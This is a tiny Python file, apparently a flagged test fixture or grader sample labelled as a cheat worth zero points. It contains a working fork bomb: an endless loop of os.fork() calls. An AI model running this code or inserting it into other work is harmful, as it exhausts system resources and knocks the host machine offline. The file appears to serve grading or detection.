# cheat: fork without end
# max-points: 0
# flagged: yes
import os

while True:
    os.fork()
